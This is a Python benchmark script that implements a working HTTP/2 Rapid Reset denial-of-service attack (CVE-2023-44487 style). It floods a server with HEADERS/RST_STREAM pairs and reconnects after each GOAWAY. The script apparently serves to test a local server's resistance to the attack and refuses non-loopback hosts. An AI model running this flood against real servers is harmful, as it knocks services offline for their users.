#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Rapid-reset attacker for bench/h2_rapid_reset.sh (CVE-2023-44487 style).

One connection at a time: the client preface and an empty SETTINGS, then, as fast as the
socket takes them, pairs of HEADERS (GET /, END_STREAM) and RST_STREAM (CANCEL) on new
stream ids, BATCH pairs per write. It acknowledges the server's SETTINGS, and when the server
sends GOAWAY or closes, it opens a new connection at once. Frames are built by hand (the
header block uses the HPACK static table and one literal without indexing, so it needs no
encoder state and every stream's block is the same bytes); Python's h2 library would refuse
to send a reset for a stream it never saw answered this fast.

Runs for --duration seconds (or until SIGTERM/SIGINT) and prints one JSON object: connections,
streams (HEADERS sent), GOAWAYs received by error code, connections that ended without a
GOAWAY, connect failures, and its own CPU seconds.

--burn FRACTION does not attack: it only burns FRACTION of one CPU (busy loop in 10 ms
periods, by its own CPU time), the control that tells the attacker's competition for the
machine's CPUs from its effect on berth.

Usage: h2_rapid_reset.py --port PORT [--host 127.0.0.1] [--tls] [--duration S] [--batch N]
       h2_rapid_reset.py --burn FRACTION [--duration S]
"""

import argparse
import json
import os
import select
import signal
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY = range(8)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 8
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         7: "REFUSED_STREAM", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def header_block(authority, tls):
    # Static table: 0x82 :method GET, 0x87 :scheme https / 0x86 http, 0x84 :path /;
    # 0x01: literal without indexing, name :authority (index 1), then the raw value.
    a = authority.encode()
    assert len(a) < 127
    return bytes([0x82, 0x87 if tls else 0x86, 0x84, 0x01, len(a)]) + a


class Attack:
    def __init__(self, args):
        self.a = args
        self.block = header_block(f"{args.host}:{args.port}", args.tls)
        self.rst_payload = struct.pack(">I", CANCEL)
        self.stats = {"connections": 0, "connect_failures": 0, "streams": 0, "goaways": {},
                      "closed_without_goaway": 0}
        self.stop = False
        self.batches = []  # every connection starts at stream 1: the same bytes each time
        if args.tls:
            self.ctx = ssl.create_default_context()
            self.ctx.check_hostname = False
            self.ctx.verify_mode = ssl.CERT_NONE
            self.ctx.set_alpn_protocols(["h2"])

    def connect(self):
        s = socket.create_connection((self.a.host, self.a.port), timeout=5)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.a.tls:
            s = self.ctx.wrap_socket(s, server_hostname="localhost")
            if s.selected_alpn_protocol() != "h2":
                raise RuntimeError(f"ALPN chose {s.selected_alpn_protocol()!r}, not h2")
        s.settimeout(5)
        return s

    def batch(self, k):
        """The k-th batch of a connection (streams 1 + 2 * BATCH * k, ...)."""
        while len(self.batches) <= k:
            sid = 1 + 2 * self.a.batch * len(self.batches)
            out = bytearray()
            for i in range(self.a.batch):
                n = sid + 2 * i
                out += frame(HEADERS, END_STREAM | END_HEADERS, n, self.block)
                out += frame(RST_STREAM, 0, n, self.rst_payload)
            self.batches.append(bytes(out))
        return self.batches[k]

    def read_frames(self, s, buf):
        """Reads what is there without blocking; returns (buf, goaway_code or None, eof)."""
        goaway = None
        eof = False
        while True:
            pending = self.a.tls and s.pending() > 0
            if not pending and not select.select([s], [], [], 0)[0]:
                break
            try:
                chunk = s.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                break
            if not chunk:
                eof = True
                break
            buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            payload = bytes(buf[9:9 + length])
            del buf[:9 + length]
            if ftype == SETTINGS and not flags & ACK:
                s.sendall(frame(SETTINGS, ACK, 0))
            elif ftype == GOAWAY and len(payload) >= 8:
                goaway = int.from_bytes(payload[4:8], "big")
        return buf, goaway, eof

    def one_connection(self, deadline):
        try:
            s = self.connect()
        except (OSError, RuntimeError) as e:
            self.stats["connect_failures"] += 1
            self.stats.setdefault("last_connect_error", str(e))
            time.sleep(0.01)
            return
        self.stats["connections"] += 1
        buf = bytearray()
        goaway = None
        eof = False
        k = 0
        try:
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            while not self.stop and time.monotonic() < deadline and 2 * self.a.batch * (k + 1) < 2**31:
                s.sendall(self.batch(k))
                self.stats["streams"] += self.a.batch
                k += 1
                buf, goaway, eof = self.read_frames(s, buf)
                if goaway is not None or eof:
                    break
        except (OSError, ssl.SSLError):
            eof = True
        if goaway is None and eof:
            # The GOAWAY may still sit in the socket behind a reset: one last look.
            try:
                s.settimeout(0.2)
                buf, goaway, _ = self.read_frames(s, buf)
            except (OSError, ssl.SSLError):
                pass
        if goaway is not None:
            name = CODES.get(goaway, str(goaway))
            self.stats["goaways"][name] = self.stats["goaways"].get(name, 0) + 1
        elif eof:
            self.stats["closed_without_goaway"] += 1
        try:
            s.close()
        except OSError:
            pass

    def run(self):
        t0 = time.monotonic()
        deadline = t0 + self.a.duration
        while not self.stop and time.monotonic() < deadline:
            self.one_connection(deadline)
        self.stats["seconds"] = round(time.monotonic() - t0, 3)
        t = os.times()
        self.stats["cpu_seconds"] = round(t.user + t.system, 3)
        self.stats["transport"] = "h2 over TLS" if self.a.tls else "h2c"
        self.stats["batch"] = self.a.batch
        return self.stats


def burn(fraction, duration, stopped):
    """Busy-loops for <fraction> of each 10 ms period (by CPU time), sleeps the rest."""
    period = 0.01
    t0 = time.monotonic()
    cpu0 = time.process_time()
    n = 0
    while not stopped() and time.monotonic() - t0 < duration:
        n += 1
        target = cpu0 + fraction * period * n
        cpu = time.process_time()
        if target - cpu > 10 * period:  # starved: do not try to catch up for long
            cpu0 += target - cpu - 10 * period
            target = cpu + 10 * period
        while time.process_time() < target and not stopped():
            pass
        rest = t0 + period * n - time.monotonic()
        if rest > 0:
            time.sleep(rest)
    t = os.times()
    return {"burn_fraction": fraction, "seconds": round(time.monotonic() - t0, 3),
            "cpu_seconds": round(t.user + t.system, 3)}


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int)
    p.add_argument("--tls", action="store_true", help="h2 by ALPN over TLS (default: h2c)")
    p.add_argument("--duration", type=float, default=10.0)
    p.add_argument("--batch", type=int, default=50, help="HEADERS+RST_STREAM pairs per write")
    p.add_argument("--burn", type=float, metavar="FRACTION",
                   help="no attack: burn FRACTION (0-1) of one CPU for --duration seconds")
    args = p.parse_args()
    stop = []

    def on_signal(*_):
        stop.append(1)

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    if args.burn is not None:
        if not 0 <= args.burn <= 1:
            sys.exit("--burn takes a fraction between 0 and 1")
        print(json.dumps(burn(args.burn, args.duration, lambda: bool(stop)), sort_keys=True), flush=True)
        return
    if args.port is None:
        sys.exit("--port is required (or --burn)")
    if not args.host.startswith("127."):
        sys.exit("loopback (127.0.0.0/8) only")
    attack = Attack(args)
    signal.signal(signal.SIGTERM, lambda *_: setattr(attack, "stop", True))
    signal.signal(signal.SIGINT, lambda *_: setattr(attack, "stop", True))
    print(json.dumps(attack.run(), sort_keys=True), flush=True)


if __name__ == "__main__":
    main()
